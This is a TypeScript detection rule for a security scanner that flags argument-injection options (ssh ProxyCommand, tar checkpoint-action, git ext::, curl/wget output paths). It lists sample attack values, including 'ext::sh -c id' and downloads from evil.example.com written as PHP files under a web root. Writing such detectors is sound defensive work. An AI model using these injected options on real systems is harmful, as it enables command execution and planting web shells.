import { confidence } from '../../placement/confidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { isInValue } from '../../placement/value-place.ts';
import { followsValue } from '../../text/place.ts';
import { wordList } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** Options of common programs that run a command or write a file, in place of a value. */
export const optionInjection: ValueRule = {
  id: 'cmdi.option-injection',
  cwe: 'CWE-88',
  severity: 'high',
  score: confidence.strong,
  message: 'is an option that makes the called program run a command',
  trigger: {
    literals: [
      [
        ...wordList(
          'proxycommand localcommand checkpoint-action use-askpass to-command',
          'use-compress-program upload-pack receive-pack --post-file open-files-in-pager',
          '--rsh= --config-env core.sshcommand core.pager ext:: gpu-launcher',
          'renderer-cmd-prefix',
        ),
        ...wordList('--output -o/ -oqueue -x/ =@/ -exec alias. hooks.'),
        ...['-o /', ' -o', ' @/', '-t /etc'],
      ],
    ],
  },
  judge,
  examples: [
    '-oProxyCommand=sh -c id',
    '--checkpoint-action=exec=sh x.sh',
    '--use-askpass=/tmp/x',
    '--to-command=id',
    '--upload-pack=touch /tmp/x',
    '-o PermitLocalCommand=yes -o LocalCommand=id',
    '--gpu-launcher=calc.exe',
    '-o /srv/www/a.php http://evil.example.com/a.txt',
    '-X/srv/www/a.php -OQueueDirectory=/tmp',
    'ext::sh -c id',
    '--data-binary @/etc/hosts',
    '-exec sh x.sh {} ;',
    '--output=/srv/www/a.php',
    '--output=/srv/www/a.php http://evil.example.com/a.txt',
    '-O/srv/www/a.jsp',
    { body: { 'query.host': 'evil.example.com/a -o /srv/www/a.php' } },
  ],
  lookalikes: [
    'How do I use the ProxyCommand option of ssh?',
    'ssh-config: ProxyCommand none',
    'tar has --checkpoint-action, see the manual',
    'set core.pager to less -R',
    '-o output.txt is the last option',
    'see ext::property in the manual',
    '-exec is an option of find',
    'With -execdir and -okdir no program may be called {}, as that is a risk.',
    '--post-file=DATEI           Die POST-Methode verwenden',
    '--output=/srv/www/index.html',
    '--output=/tmp/a.php writes the page there',
    'Is it written with -o /srv/www/a.php',
    { body: { 'query.file': 'report -o /tmp/a.sh' } },
    'curl -o /tmp/a.tgz https://example.com/a.tgz downloads the archive into the folder',
  ],
};

/** `& < [` start a placeholder of a manual. */
const placeholders: readonly number[] = [38, 60, 91];

function judge(subject: Subject): Match | undefined {
  const text = subject.text;
  for (const form of forms) {
    const match = form.exec(text);
    if (match === null) continue;
    const start = match.index + (match[1] ?? '').length;
    if (form === behindValue ? isInValue(subject, start) : followsValue(text, start))
      return { start, end: match.index + match[0].length };
  }
  const match = option.exec(text);
  if (match === null) return undefined;
  const start = match.index + (match[1] ?? '').length;
  const end = match.index + match[0].length;
  const next = text.charCodeAt(end);
  const hasValue =
    next > 32 && !placeholders.includes(next) && !help.test(text.slice(end, end + 60));
  if (!hasValue || !followsValue(text, start)) return undefined;
  return { start, end: Math.min(text.length, end + 40) };
}

/** `--post-file=FILE          use the POST method`: the help of a program. */
const help = /^[\p{Lu}\p{Lo}-]{2,20}\s{3,40}\p{L}/u;

/** A program to write where a server runs it, behind the address to fetch. */
const behindValue =
  /^(\s{0,4}(?=\S{0,160}[./:])[^\s<>]{1,200}\s{1,4})(?:-[oO] ?|--output(?:-document|-file)?[= ])\/[\w./-]{1,120}\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi|sh|py|pl|so)[\s"';]{0,4}$/;

/** Options that are an attack with the value they have here. */
const forms: readonly RegExp[] = [
  behindValue,
  /(^\s{0,4}|["'] )-[oO] ?\/[\w./-]{2,120}\s{1,4}(?:https?|ftp):\/\/\S{4,80}/,
  /^(\s{0,4})(?:https?|ftp):\/\/\S{4,200}\s{1,4}-[oO] ?\/[\w./-]{2,120}/,
  /(^\s{0,4}|["'] )(?:-[oO] ?|--output(?:-document|-file)?[= ])\/[\w./-]{1,120}\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi)[\s"';]{0,4}$/,
  /(^\s{0,4})--output(?:-document|-file)?[= ]\/[\w./-]{1,120}\.\w{2,5}\s{1,4}(?:https?|ftp):\/\/\S{4,80}/,
  /(^|\s)-O(?:QueueDirectory|ProgramMailer|[A-Z][A-Za-z]{4,24})=\/\w{1,40}/,
  /(^|\s)-X ?\/[\w./-]{2,120}\.(?:php\d?|phtml|jsp|aspx?|cgi)\b/,
  /(^|\s)(?:-d|-T|--data(?:-binary|-ascii|-raw)?|--upload-file|-F \w{1,20}=)[ =]?@?\/(?:etc|proc|root|home|var)\/[\w./-]{2,80}/,
  /(^|[\s'"=])ext::(?:sh|bash|\/[a-z/]{2,24}|nc|ssh|python3?|perl|cmd|curl|wget|id|touch) [-%\w/'"]{1,40}/,
  /(^|\s)-exec(?:dir)? {1,3}[\w/]{2,24} [^;\n]{0,60}(?:;|\{\}(?! ?,))/,
  /(^|\s)-(?:c|-config)[ =]?(?:alias|hooks)\.[\w.-]{1,30}=!?[\w/'"]{2,30}/,
  /(^|\s)-o ?['"]?\|[ \w/]{2,40}/,
];

/** What stands before it, and the option up to its equals sign. */
const option =
  /(^|[^A-Za-z0-9])(?:-o ?(?:proxy|local|knownhosts)command=|--(?:checkpoint-action|use-askpass|to-command|use-compress-program|upload-pack|receive-pack|post-file|open-files-in-pager|rsh|config-env|gpu-launcher|renderer-cmd-prefix)=|-c core\.(?:sshcommand|pager|editor|fsmonitor)=)/i;
